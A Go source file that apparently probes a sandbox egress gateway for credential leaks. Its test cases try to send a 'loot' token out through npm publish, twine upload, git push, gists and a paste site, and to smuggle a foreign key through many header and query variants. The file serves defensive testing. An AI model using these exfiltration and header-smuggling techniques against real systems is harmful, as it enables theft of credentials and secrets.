package leak

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"net/url"
	"regexp"
	"strings"
)

// Keys is what a sandbox has, and has not, whose requests are given a credential:
// it is bound to KeyName and OldKeyName as a bearer.
type Keys struct {
	// Placeholder stands for the credential inside, whose SHA-256 is Sum.
	Placeholder string `json:"placeholder"`
	Sum         string `json:"sum"`
	// Foreign is somebody else's key, which came with the hostile text.
	Foreign string `json:"foreign"`
}

// Outcomes of requests to hosts whose TLS ends in the gateway, besides the rules
// that its pages name.
const (
	Welcome Outcome = "the key was given"          // the control: the server greets
	Served  Outcome = "served without credentials" // the control: it passed, and the server saw none
	Masked  Outcome = "masked"                     // the answer has the mark in the key's place
	Leaked  Outcome = "the key came back"
)

// keyed are the ways of a sandbox that is given credentials.
func (a Aim) keyed() []way {
	var list []way
	for _, group := range []struct {
		name string
		ways []way
	}{{"keys", a.keyControls()}, {"publish", a.publishing()}, {"another's key", a.foreignKeys()}, {"placeholder", a.placeholders()}, {"front", a.keyFronts()},
		{"smuggle", a.smuggling()}, {"echo", a.echoes()}, {"redirect", a.redirects()}} {
		for _, w := range group.ways {
			w.group = group.name
			list = append(list, w)
		}
	}
	return list
}

// call is a request that is proper HTTP.
type call struct {
	method, host, path string
	fields             []string // names and values
	body               []string // more than one: in as many chunks or frames, without a length
	old                bool     // HTTP/1.1, else HTTP/2
}

func (c call) String() string {
	version := "HTTP/2"
	if c.old {
		version = "HTTP/1.1"
	}
	return fmt.Sprintf("%s https://%s%s by %s, %.60q", c.method, c.host, c.path, version, c.fields)
}

// answer is what came back.
type answer struct {
	*http.Response
	body  string
	early []string // fields that came before the answer (1xx)
}

// do makes a call. An answer that ends too soon is an error.
func (p *probe) do(ctx context.Context, c call) (answer, error) {
	var got answer
	ctx = httptrace.WithClientTrace(ctx, &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
		for name, values := range h {
			got.early = append(got.early, name+": "+strings.Join(values, ", "))
		}
		return nil
	}})
	var body io.Reader
	for _, part := range c.body {
		body = strings.NewReader(part)
	}
	if len(c.body) > 1 {
		var parts []io.Reader
		for _, part := range c.body {
			parts = append(parts, strings.NewReader(part))
		}
		body = io.MultiReader(parts...)
	}
	req, err := http.NewRequestWithContext(ctx, c.method, "https://"+c.host+c.path, body)
	if err != nil {
		return got, err
	}
	for i := 0; i < len(c.fields); i += 2 {
		req.Header.Add(c.fields[i], c.fields[i+1])
	}
	t := &http.Transport{DisableKeepAlives: true, DisableCompression: true, ResponseHeaderTimeout: longest / 2, Protocols: new(http.Protocols)}
	t.Protocols.SetHTTP1(c.old)
	t.Protocols.SetHTTP2(!c.old)
	defer t.CloseIdleConnections()
	if got.Response, err = t.RoundTrip(req); err != nil {
		return got, err
	}
	defer got.Body.Close()
	all, err := io.ReadAll(io.LimitReader(got.Body, 64<<10))
	got.body = string(all)
	return got, err
}

// ruled is the rule that a page of the gateway's names.
var ruled = regexp.MustCompile(`(?m)^rule: +(\S+)$`)

// judge says what an answer is: a refusal by a rule, or an answer of the server's.
func judge(status int, field http.Header, body string) seen {
	words := fmt.Sprintf("%d: %s", status, firstLine(body))
	rule := ruled.FindStringSubmatch(body)
	switch {
	case strings.HasPrefix(body, "rein: this request was refused") && rule != nil:
		return seen{outcome: Outcome(rule[1]), words: words}
	case strings.HasPrefix(body, "rein: this request was refused") && status == http.StatusBadRequest:
		return seen{outcome: BadRequest, words: words}
	case status == http.StatusBadRequest && strings.HasSuffix(strings.TrimSpace(body), "is not valid in HTTP/2"): // no server here that is asked over HTTP/1.1 says so
		return seen{outcome: BadRequest, words: words}
	case strings.HasPrefix(body, welcome):
		return seen{outcome: Welcome, words: words}
	case field.Get("Lab-Credential") == "none":
		return seen{outcome: Served, words: words}
	}
	return seen{outcome: Open, words: words}
}

// ask is a way of one call.
func (a Aim) ask(name string, want []Outcome, c call) way {
	return by("", name, c.String(), want, func(ctx context.Context, p *probe) seen {
		got, err := p.do(ctx, c)
		if err != nil {
			return cut(err)
		}
		return judge(got.StatusCode, got.Header, got.body)
	})
}

// both is a way of one call by HTTP/2 and one by HTTP/1.1.
func (a Aim) both(name string, want []Outcome, c call) []way {
	second := c
	second.old = true
	return []way{a.ask(name, want, c), a.ask(name+", HTTP/1.1", want, second)}
}

// cut says which refusal the end of a connection or stream is.
func cut(err error) seen {
	for _, words := range []string{"stream error", "GOAWAY", "server closed", "connection error"} {
		if strings.Contains(err.Error(), words) {
			return seen{outcome: Reset, words: err.Error()}
		}
	}
	return refused(err)
}

// keyControls show that what is allowed works: a key is given in the place of its
// placeholder and where nothing was sent, and a bundle lets a program read.
func (a Aim) keyControls() []way {
	var list []way
	for _, host := range []string{KeyName, OldKeyName} {
		list = append(list, a.both("allowed: the placeholder to "+host, []Outcome{Welcome}, call{method: "GET", host: host, path: "/welcome", fields: a.bearer()})...)
		list = append(list, a.both("allowed: no credential to "+host, []Outcome{Welcome}, call{method: "GET", host: host, path: "/welcome"})...)
	}
	list = append(list, a.both("allowed: a host without a key", []Outcome{Served}, call{method: "POST", host: OtherName, path: "/", body: []string{"hello"}})...)
	list = append(list, a.both("allowed: npm's registry", []Outcome{Served}, call{method: "GET", host: NPMName, path: "/rein-lab-hello"})...)
	list = append(list, a.both("allowed: PyPI", []Outcome{Served}, call{method: "GET", host: PyPIName, path: "/simple/rein-lab-hello/"})...)
	list = append(list, a.both("allowed: git fetch", []Outcome{Served}, call{method: "GET", host: GitHubName, path: "/" + repository + "/info/refs?service=git-upload-pack"})...)
	return append(list, a.both("allowed: git fetch, the pack", []Outcome{Served}, call{method: "POST", host: GitHubName, path: "/" + repository + "/git-upload-pack",
		fields: []string{"Content-Type", "application/x-git-upload-pack-request"}, body: []string{"0000"}})...)
}

func (a Aim) bearer() []string { return []string{"Authorization", "Bearer " + a.Keys.Placeholder} }

// publishing leaves something at a registry, with a key that came with the text.
func (a Aim) publishing() []way {
	foreign := []string{"Authorization", "Bearer " + a.Keys.Foreign}
	of := func(bundle string) []Outcome { return []Outcome{Outcome("bundles." + bundle)} }
	git := "github:" + repository
	message := []string{`{"loot":"` + a.Token + `"}`}
	var list []way
	for _, c := range []struct {
		name, bundle string
		call
	}{
		{"npm publish", "npm", call{method: "PUT", host: NPMName, path: "/rein-lab-loot", fields: append([]string{"Content-Type", "application/json"}, foreign...)}},
		{"npm login", "npm", call{method: "PUT", host: NPMName, path: "/-/user/org.couchdb.user:loot"}},
		{"npm, by an override", "npm", call{method: "POST", host: NPMName, path: "/rein-lab-loot", fields: append([]string{"X-HTTP-Method-Override", "PUT"}, foreign...)}},
		{"npm, a body of GET", "npm", call{method: "GET", host: NPMName, path: "/rein-lab-loot", fields: foreign}},
		{"npm, a message of its audit", "npm", call{method: "POST", host: NPMName, path: "/-/npm/v1/security/advisories/bulk"}},
		{"twine upload", "pypi", call{method: "POST", host: PyPIName, path: "/legacy/", fields: []string{"Content-Type", "multipart/form-data; boundary=x", "Authorization", basic("__token__", a.Keys.Foreign)}}},
		{"git push", git, call{method: "GET", host: GitHubName, path: "/" + repository + "/info/refs?service=git-receive-pack", fields: []string{"Authorization", basic("x", a.Keys.Foreign)}}},
		{"git push, the pack", git, call{method: "POST", host: GitHubName, path: "/" + repository + "/git-receive-pack", fields: []string{"Authorization", basic("x", a.Keys.Foreign)}}},
		{"git push, to a repository of theirs", git, call{method: "POST", host: GitHubName, path: "/theirs/loot/git-receive-pack", fields: []string{"Authorization", basic("x", a.Keys.Foreign)}}},
		{"git fetch, of theirs", git, call{method: "POST", host: GitHubName, path: "/theirs/loot/git-upload-pack"}},
		{"a gist by the site", git, call{method: "POST", host: GitHubName, path: "/gist", fields: foreign}},
	} {
		if !strings.HasSuffix(c.path, "service=git-receive-pack") {
			c.body = message
		}
		list = append(list, a.both(c.name, of(c.bundle), c.call)...)
	}
	for _, c := range []struct{ name, host string }{{"twine upload, where it goes by itself", "upload.pypi.org"}, {"cargo publish", "crates.io"}, {"a paste", "paste.example.org"}} {
		list = append(list, a.ask(c.name, []Outcome{NoName}, call{method: "POST", host: c.host, path: "/legacy/", body: message, fields: foreign}))
	}
	// What passes arrives without the key.
	for _, name := range []string{"Authorization", "X-Api-Key", "Npm-Otp", "Cookie", "X-" + a.Token} {
		list = append(list, a.both("a key while reading, in "+short(name), []Outcome{Served}, call{method: "GET", host: NPMName, path: "/rein-lab-hello", fields: []string{name, a.Keys.Foreign}})...)
	}
	return list
}

func basic(user, password string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+password))
}

// foreignKeys sends another's key to hosts to which one is bound.
func (a Aim) foreignKeys() []way {
	foreign, key := a.Keys.Foreign, a.Keys.Placeholder
	var list []way
	for _, c := range []struct {
		name, path string
		fields     []string
	}{
		{"a gist, as a bearer", "/gists", []string{"Authorization", "Bearer " + foreign}},
		{"a gist, as a token", "/gists", []string{"Authorization", "token " + foreign}},
		{"a gist, as a password", "/gists", []string{"Authorization", basic("me", foreign)}},
		{"a gist, in the query", "/gists?access_token=" + foreign, nil},
		{"a gist, in the query, escaped", "/gists?access%5ftoken=" + foreign, nil},
		{"a gist, beside the right one", "/gists", []string{"Authorization", "Bearer " + key, "Authorization", "Bearer " + foreign}},
		{"a gist, behind the right one", "/gists", []string{"Authorization", "Bearer " + key + ", Bearer " + foreign}},
		{"a gist, in X-Api-Key", "/gists", []string{"X-Api-Key", foreign}},
		{"a gist, in X-GitHub-Token", "/gists", []string{"X-GitHub-Token", foreign}},
		{"a gist, in Private-Token", "/gists", []string{"Private-Token", foreign}},
		{"a gist, in Proxy-Authorization", "/gists", []string{"Proxy-Authorization", "Bearer " + foreign}},
		{"a gist, in a name with an underscore", "/gists", []string{"X_Api_Key", foreign}},
		{"a gist, in a subprotocol", "/gists", []string{"Sec-WebSocket-Protocol", "bearer, " + foreign}},
		{"a gist, signed for AWS", "/gists", []string{"Authorization", "AWS4-HMAC-SHA256 Credential=AKIAAAAAAAAAAAAAAAAA/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=" + strings.Repeat("0", 64)}},
	} {
		list = append(list, a.both(c.name, []Outcome{"vault.foreign"}, call{method: "POST", host: KeyName, path: c.path, fields: c.fields, body: []string{a.Token}})...)
	}
	return list
}

// findKey reports whether a text has the key, as it is, percent-encoded, or in
// base64 or hexadecimal.
func (k *Keys) findKey(text string) bool {
	texts := []string{text}
	if plain, err := url.PathUnescape(text); err == nil {
		texts = append(texts, plain)
	}
	for _, run := range base64Run.FindAllString(text, -1) {
		run = strings.NewReplacer("-", "+", "_", "/").Replace(strings.TrimRight(run, "="))
		for skip := range min(4, len(run)) {
			part := run[skip:]
			if b, err := base64.RawStdEncoding.DecodeString(part[:len(part)/4*4]); err == nil {
				texts = append(texts, string(b))
			}
			if b, err := base64.RawStdEncoding.DecodeString(part); err == nil {
				texts = append(texts, string(b))
			}
		}
		if b, err := hex.DecodeString(run[:len(run)/2*2]); err == nil {
			texts = append(texts, string(b))
		}
	}
	for _, t := range texts {
		for i := 0; i+len(k.Placeholder) <= len(t); i++ {
			if fmt.Sprintf("%x", sha256.Sum256([]byte(t[i:i+len(k.Placeholder)]))) == k.Sum {
				return true
			}
		}
	}
	return false
}

var base64Run = regexp.MustCompile(`[A-Za-z0-9+/_-]{16,}={0,2}`)
